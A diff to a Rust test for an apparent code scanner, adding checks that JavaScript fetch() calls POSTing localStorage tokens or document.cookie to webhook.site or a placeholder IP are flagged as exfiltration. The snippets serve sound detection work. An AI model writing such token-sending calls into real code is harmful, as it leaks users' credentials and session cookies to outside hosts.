@@ -745,4 +745,15 @@ fn a_page_s_own_items_are_not_everything_that_it_keeps() {
     assert!(sent("localStorage.getItem('mp_' + globalThis.project + '_password')") >= Some(Severity::High));
     assert!(sent("localStorage.getItem('access_token')") >= Some(Severity::High));
     assert!(sent("localStorage.getItem(localStorage.key(0))") >= Some(Severity::High));
+    let triggered = |address: &str, reads: &str| {
+        let code = format!("fetch('{address}', {{method: 'POST', body: {reads}}});\n");
+        let outcome = outcome(Language::JavaScript, &code);
+        let flows = flows::judge(&outcome, false);
+        let found = flows.iter().find(|f| f.rule.id == "flow-stores-sent").unwrap();
+        found.finding(crate::model::Evidence::note("")).stages.has(crate::model::Stage::Trigger)
+    };
+    let token = "localStorage.getItem('access_token')";
+    assert!(!triggered("https://api.service.invalid/token", token));
+    assert!(triggered("https://webhook.site/x", token) && triggered("http://203.0.113.9/x", token));
+    assert!(triggered("https://api.service.invalid/token", "document.cookie"));
 }
